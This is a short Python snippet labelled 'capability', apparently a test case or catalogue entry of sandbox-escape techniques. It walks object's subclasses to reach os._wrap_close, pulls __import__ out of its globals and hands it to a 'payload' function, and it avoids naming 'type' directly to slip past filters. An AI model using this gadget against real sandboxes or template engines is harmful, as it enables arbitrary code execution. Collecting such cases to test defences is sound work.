# kind: capability
# type.__call__ calls type without naming it, then the subclasses walk.
for c in type.__call__(type, ()).__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        payload(c.__init__.__globals__["__builtins__"]["__import__"])
